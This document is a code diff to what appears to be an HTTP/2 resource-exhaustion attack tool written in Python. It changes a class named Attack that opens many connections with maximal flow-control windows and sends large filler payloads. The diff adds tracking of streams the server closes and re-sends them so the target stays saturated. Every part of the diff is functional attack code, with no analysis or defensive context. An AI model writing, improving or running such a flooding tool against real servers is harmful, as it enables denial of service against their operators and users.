@@ -26,7 +26,8 @@ import messages
 PIECES = 45
 VALUE_DIM = 4096
 FILLERS = tuple(1 << shift for shift in range(26, 10, -1))
-FILL_SECONDS = 0.5
+ROUND_SECONDS = 0.5
+SOCKET_SECONDS = 5
 
 
 def large(total: int) -> messages.Call:
@@ -52,14 +53,14 @@ class Share:
         self.connection = self.connect()
         self.kept: list[http2.Connection] = []
         self.streams: list[http2.Stream] = []
-        self.begun = self.ended = 0
+        self.begun = self.ended = self.lost = 0
 
     def connect(self) -> http2.Connection:
         window = http2.LARGEST_WINDOW if self.options.how == "socket" else 0
         return http2.Connection(self.options.target, self.source, window)
 
-    def begin(self) -> None:
-        """Sends the calls, beside those that are under way."""
+    def begin(self, calls: list[messages.Call]) -> None:
+        """Sends calls, beside those that are under way."""
         if self.connection.closed or self.connection.goaway:
             self.connection = self.connect()
         elif self.begun and self.options.how == "socket":
@@ -68,28 +69,37 @@ class Share:
         connection = self.connection
         if self.options.method == "stream":
             opened = [connection.open(messages.STREAM)]
-            for call in self.calls:
+            for call in calls:
                 connection.send(opened[0], call.piece(next(self.ids)))
         else:
-            opened = [connection.open(messages.COMPUTE) for _ in self.calls]
-            for stream, call in zip(opened, self.calls):
+            opened = [connection.open(messages.COMPUTE) for _ in calls]
+            for stream, call in zip(opened, calls):
                 connection.send(stream, call.message(), end=True)
         self.streams += opened
         self.begun += len(opened)
         connection.pump_until(connection.sent, 5)  # the server says meanwhile how much more it takes
 
-    def pump(self, seconds: float) -> bool:
-        """Whether the server has ended something."""
+    def begin_all(self) -> None:
+        self.lost = 0
+        self.begin(self.calls)
+
+    def begin_lost(self) -> None:
+        """What the server has ended, once more."""
+        lost, self.lost = self.lost, 0
+        if lost:
+            self.begin(self.calls if self.options.method == "stream" else self.calls[:lost])
+
+    def pump(self, seconds: float) -> None:
         if self.options.how == "socket":
             time.sleep(seconds)
-            return False
+            return
         self.connection.pump(seconds)
         ended = [stream for stream in self.streams if stream.closed]
         for stream in ended:
             self.streams.remove(stream)
             self.connection.streams.pop(stream.id, None)
         self.ended += len(ended)
-        return bool(ended)
+        self.lost += len(ended)
 
 
 class Attack:
@@ -107,21 +117,25 @@ class Attack:
 
     def run(self) -> None:
         for share in self.shares:
-            share.begin()
+            share.begin_all()
         print("holding", flush=True)
         begun = time.monotonic()
         end = begun + self.options.seconds
         while time.monotonic() < end:
-            self.filler.begin()
-            next_round = time.monotonic() + FILL_SECONDS
+            self.filler.begin_all()
+            next_round = time.monotonic() + ROUND_SECONDS
             while time.monotonic() < next_round:
-                lost = [share for share in self.shares if share.pump(0.1 / len(self.shares))]
-                self.filler.pump(0)
-                # Where nothing is read nothing is known of ends: everything is sent once more from time to time.
-                if self.options.how == "socket" and time.monotonic() - begun > 5:
-                    lost, begun = self.shares, time.monotonic()
-                for share in lost:
-                    share.begin()
+                for share in [*self.shares, self.filler]:
+                    share.pump(0.05 / len(self.shares))
+            # Where nothing is read nothing is known of ends: everything is sent once more from time to time.
+            again = self.options.how == "socket" and time.monotonic() - begun > SOCKET_SECONDS
+            if again:
+                begun = time.monotonic()
+            for share in self.shares:
+                if again:
+                    share.begin_all()
+                else:
+                    share.begin_lost()
 
     def report(self) -> dict[str, int]:
         every = [*self.shares, self.filler]
